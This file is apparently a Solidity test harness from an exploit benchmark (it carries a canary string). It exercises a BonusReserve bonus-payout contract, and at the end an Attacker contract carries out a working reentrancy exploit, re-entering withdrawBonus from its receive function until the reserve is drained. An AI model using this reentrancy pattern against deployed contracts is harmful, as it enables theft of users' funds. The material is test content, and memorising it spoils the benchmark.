// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./BonusReserve.sol";

// assay-canary-db882774-29ab-403d-9d56-a8bdf4d0b1d5

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    BonusReserve private reserve;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 40 ether);
        reserve = new BonusReserve();
        mallory = new Attacker(reserve);
        reserve.grantBonus{value: 12 ether}(ANA, START + 30 days);
        reserve.grantBonus{value: 8 ether}(BEN, START + 60 days);
        reserve.grantBonus{value: 1 ether}(address(mallory), START);
    }

    function test_Regular() public {
        vm.warp(START + 30 days);
        vm.prank(ANA);
        require(reserve.withdrawBonus(5 ether) == 7 ether && ANA.balance == 5 ether, "a part");
        reserve.grantBonus{value: 2 ether}(ANA, START + 31 days);
        vm.warp(START + 31 days);
        vm.prank(ANA);
        require(reserve.withdrawBonus(9 ether) == 0 && ANA.balance == 14 ether, "the rest");
        uint256 before = address(this).balance;
        require(reserve.revokeBonus(BEN) == 8 ether && reserve.bonuses(BEN) == 0, "revoked");
        require(address(this).balance == before + 8 ether && address(reserve).balance == 1 ether, "balances");
        reserve.transferOwnership(ANA);
        vm.prank(ANA);
        reserve.renounceOwnership();
    }

    function test_RefusesGrants() public {
        vm.expectRevert("the employee is missing");
        reserve.grantBonus{value: 1}(address(0), START);
        vm.expectRevert("the bonus is empty");
        reserve.grantBonus(BEN, START);
        vm.expectRevert("the release is too far away");
        reserve.grantBonus{value: 1}(BEN, START + 365 days + 1);
        reserve.grantBonus{value: 1}(BEN, START + 365 days);
        vm.deal(BEN, 1);
        vm.prank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        reserve.grantBonus{value: 1}(BEN, START);
    }

    function test_RefusesRevocations() public {
        vm.prank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        reserve.revokeBonus(ANA);
        vm.warp(START + 30 days);
        vm.expectRevert("the bonus is released");
        reserve.revokeBonus(ANA);
        vm.warp(START + 30 days - 1);
        reserve.revokeBonus(ANA);
    }

    function test_RefusesEarly() public {
        vm.startPrank(ANA);
        vm.warp(START + 30 days - 1);
        vm.expectRevert("the bonus is not released");
        reserve.withdrawBonus(1 ether);
        vm.warp(START + 30 days);
        vm.expectRevert("the bonus is smaller");
        reserve.withdrawBonus(12 ether + 1);
        reserve.withdrawBonus(12 ether);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 11 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(reserve);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    receive() external payable {}
}

contract Attacker {
    BonusReserve private reserve;

    constructor(BonusReserve r) public {
        reserve = r;
    }

    function run() external {
        reserve.withdrawBonus(1 ether);
    }

    receive() external payable {
        if (address(reserve).balance >= 1 ether) reserve.withdrawBonus(1 ether);
    }
}
